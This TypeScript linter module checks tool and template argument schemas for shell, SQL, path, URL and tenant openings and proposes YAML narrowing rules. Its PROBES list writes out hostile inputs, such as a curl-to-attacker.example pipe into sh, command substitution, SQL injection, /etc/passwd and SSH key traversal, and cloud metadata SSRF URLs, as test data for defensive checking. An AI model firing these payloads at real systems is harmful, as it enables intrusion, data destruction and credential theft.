import { isObject, type Json, type JsonObject } from "../../kernel/json.ts";
import { type Leaf, leavesOf } from "./leaves.ts";
import type { SchemaJudge } from "./overlay.ts";
import { pointerOf } from "./place.ts";
import type { GuardKind } from "./rules.ts";
import { type Around, type Shape, shapeOf, wordsOf } from "./shapes.ts";

/** One thing that stands open in a definition. */
export interface Finding {
  /** `off`: the tool stays off until this is narrowed, confined or accepted. */
  readonly severity: "off" | "warn";
  readonly shape: Shape;
  /** JSON Pointer into the arguments. */
  readonly pointer: string;
  /** What an attacker could do, in one sentence. */
  readonly why: string;
  /** What narrows it, for `servers.<name>.tools.<tool>` (or prompts, templates). */
  readonly rules: JsonObject;
  /** The same as YAML for `servers.<name>`, to paste. */
  readonly overlay: string;
}

/** What is known beside the definition. */
export interface LintFacts {
  readonly kind: "tool" | "prompt" | "template";
  /** The name in the configuration, under which overlays stand. */
  readonly name: string;
  /** What the sandbox confines. */
  readonly confined: { readonly files: boolean; readonly network: boolean };
  /** Guards by pointer. */
  readonly guards: ReadonlyMap<string, GuardKind>;
  /** Pointers that the operator explained. */
  readonly accepted: ReadonlySet<string>;
  readonly schemas: SchemaJudge;
}

/** What an attacker would try; a schema that refuses all of it has narrowed the argument. */
const PROBES: Partial<Record<Shape, readonly Json[]>> = {
  shell: ["id", "ls; id", "$(id)", "curl https://attacker.example|sh", "import os; os.remove('x')", "process.exit()"],
  sql: ["SELECT * FROM users", "DROP TABLE users", "1 OR 1=1", "MATCH (n) DETACH DELETE n", "SELECT 1"],
  path: ["/etc/passwd", "../../etc/passwd", "..\\..\\x", "~/.ssh/id_rsa", "C:\\x", "/tmp/x.txt", "/etc"],
  url: [
    "http://169.254.169.254/",
    "http://127.0.0.1/",
    "file:///etc/passwd",
    "https://attacker.example/",
    "https://attacker.example/a.png",
  ],
  tenant: [
    "acme",
    "1",
    "42",
    1,
    42,
    "a1b2c3d4",
    "123456789012",
    "0f8fad5b-d9cb-469f-a165-70867728950e",
    "user@example.com",
    "U0123456789",
  ],
};

const WHY: Readonly<Record<Shape, string>> = {
  shell: "takes a raw command or code: whoever writes the argument runs what they like",
  sql: "takes a raw query: whoever writes the argument reads and changes what the server's account may",
  path: "takes any file path: whoever writes the argument chooses the file",
  url: "takes any URL: whoever writes the argument makes the server call hosts of their choice, internal ones too",
  tenant: "lets the caller choose whose data it is",
  html: "takes HTML: what is written there may run where it is shown",
  template: "takes a template: what is written there may be evaluated",
  text: "takes text of any length",
  list: "takes a list of any length",
  "open-object": "takes members that nobody named",
};

const OFF: ReadonlySet<Shape> = new Set(["shell", "sql", "path", "url", "tenant"]);
/** Open texts are told of so often in one definition. */
const MOST_TEXTS = 10;

/**
 * What could an attacker do if every text were theirs (V2, P6)? Judges a definition as callers see it.
 * @returns findings, the dangerous first
 */
export function lint(definition: JsonObject, facts: LintFacts): Finding[] {
  if (facts.kind === "template") return lintTemplate(definition, facts);
  const schema = facts.kind === "prompt" ? promptSchema(definition) : definition["inputSchema"];
  if (!isObject(schema)) return [];
  const { root, leaves, open } = leavesOf(schema);
  const tool: Around = {
    words: wordsOf(String(definition["name"] ?? "")),
    description: typeof definition["description"] === "string" ? definition["description"].slice(0, 4_000) : "",
  };
  const found: Finding[] = [];
  for (const leaf of leaves) {
    const finding = judge(leaf, tool, root, facts);
    if (finding !== undefined) found.push(finding);
  }
  for (const { pointer } of open)
    if (!facts.accepted.has(pointer))
      found.push(
        make("warn", "open-object", pointer, facts, {
          accept: "why the server may be sent members that it does not name",
        }),
      );
  let texts = 0;
  const dangerous = found.filter(({ shape }) => shape !== "text" || texts++ < MOST_TEXTS);
  return dangerous.sort((a, b) => Number(b.severity === "off") - Number(a.severity === "off"));
}

function judge(leaf: Leaf, tool: Around, root: JsonObject, facts: LintFacts): Finding | undefined {
  const { pointer } = leaf;
  if (facts.accepted.has(pointer) || isListed(leaf)) return undefined;
  const shape = shapeOf(leaf, tool);
  if (shape === undefined)
    return isLoose(leaf) && !facts.guards.has(pointer)
      ? make("warn", "text", pointer, facts, { maxLength: 1000 })
      : undefined;
  if (isNarrow(shape, leaf, root, facts)) return undefined;
  const confined = (shape === "path" && facts.confined.files) || (shape === "url" && facts.confined.network);
  const off = OFF.has(shape) && !confined && facts.kind === "tool";
  return make(off ? "off" : "warn", shape, pointer, facts, REMEDY[shape], confined);
}

/** Every value is written down. */
function isListed({ facets }: Leaf): boolean {
  const lists = (schema: JsonObject): boolean => Array.isArray(schema["enum"]) || schema["const"] !== undefined;
  if (facets.sure.some(lists)) return true;
  // One of several alternatives, all of which list their values or take none.
  const others = facets.perhaps.filter((schema) => schema["type"] !== "null" && schema["type"] !== "boolean");
  return others.length > 0 && others.every(lists);
}

function isNarrow(shape: Shape, { pointer, facets }: Leaf, root: JsonObject, facts: LintFacts): boolean {
  if (facts.guards.get(pointer) === shape) return true;
  const probes = PROBES[shape];
  const [schema] = facets.sure;
  return (
    probes !== undefined && schema !== undefined && !probes.some((probe) => facts.schemas.accepts(root, schema, probe))
  );
}

function isLoose({ types, facets }: Leaf): boolean {
  if (types.size > 0 && !types.has("string")) return false;
  return ![...facets.sure, ...facets.perhaps].some(
    (schema) => schema["maxLength"] !== undefined || schema["pattern"] !== undefined || schema["format"] !== undefined,
  );
}

const REMEDY: Partial<Record<Shape, JsonObject>> = {
  shell: { enum: ["status", "version"] },
  sql: { enum: ["SELECT id, name FROM products"] },
  path: { guard: { kind: "path", roots: ["./workspace"] } },
  url: { guard: { kind: "url", hosts: ["api.example.com"] } },
  html: { guard: { kind: "html" } },
  template: { guard: { kind: "template" } },
};

function make(
  severity: Finding["severity"],
  shape: Shape,
  pointer: string,
  facts: LintFacts,
  rule: JsonObject | undefined,
  confined = false,
): Finding {
  const at = placeName(pointer);
  const section = facts.kind === "tool" ? "tools" : facts.kind === "prompt" ? "prompts" : "templates";
  const rules: JsonObject =
    shape === "tenant" ? { bind: { [at]: "principal.tenant" } } : { arguments: { [at]: rule ?? { maxLength: 1000 } } };
  const why = confined
    ? `${pointer} ${WHY[shape]}; the server's sandbox confines it`
    : `${pointer === "" ? "The arguments" : pointer} ${pointer === "" ? WHY[shape].replace(/^takes/, "take") : WHY[shape]}`;
  return { severity, shape, pointer, why, rules, overlay: yaml({ [section]: { [facts.name]: rules } }, 0) };
}

/** A single argument by its name, a deeper one by its pointer. */
function placeName(pointer: string): string {
  const steps = pointer.slice(1).split("/");
  const name = steps[0] ?? "";
  return steps.length === 1 && !name.includes("~") && name !== "" ? name : pointer === "" ? "/" : pointer;
}

/** Mappings on lines of their own down to the third level, inline below. */
function yaml(value: Json, level: number): string {
  if (!isObject(value)) return inline(value);
  if (level > 3) return inline(value);
  const pad = "  ".repeat(level);
  return Object.entries(value)
    .map(([key, member]) => {
      const nested = isObject(member) && level < 3;
      return `${pad}${quote(key)}:${nested ? `\n${yaml(member, level + 1)}` : ` ${inline(member)}`}`;
    })
    .join("\n");
}

function inline(value: Json): string {
  if (isObject(value))
    return `{ ${Object.entries(value)
      .map(([key, member]) => `${quote(key)}: ${inline(member)}`)
      .join(", ")} }`;
  if (Array.isArray(value)) return `[${value.map(inline).join(", ")}]`;
  return typeof value === "string" ? quote(value) : String(value);
}

const quote = (name: string): string =>
  /^(?!(?:true|false|null|yes|no|on|off|y|n)$)[A-Za-z][\w.-]*$/i.test(name) ? name : JSON.stringify(name);

/** A prompt's arguments as a schema: texts. */
function promptSchema(definition: JsonObject): JsonObject {
  const listed = Array.isArray(definition["arguments"]) ? definition["arguments"].filter(isObject) : [];
  const properties: JsonObject = {};
  for (const { name, description } of listed)
    if (typeof name === "string")
      Object.defineProperty(properties, name, {
        value: { type: "string", ...(typeof description === "string" ? { description } : {}) },
        enumerable: true,
      });
  return { type: "object", properties, additionalProperties: false };
}

/** A template that reads files, or calls hosts, of the caller's choice. */
function lintTemplate(definition: JsonObject, facts: LintFacts): Finding[] {
  const template = String(definition["uriTemplate"] ?? "");
  const [, variable] = /\{[+#./;?&]?([A-Za-z0-9_.]+)/.exec(template) ?? [];
  if (variable === undefined) return [];
  const shape = /^file:/i.test(template) ? "path" : /^https?:\/\/\{/i.test(template) ? "url" : undefined;
  const pointer = pointerOf([variable]);
  if (shape === undefined || facts.guards.has(pointer) || facts.accepted.has(pointer)) return [];
  const confined = shape === "path" ? facts.confined.files : facts.confined.network;
  return [make("warn", shape, pointer, facts, REMEDY[shape], confined)];
}
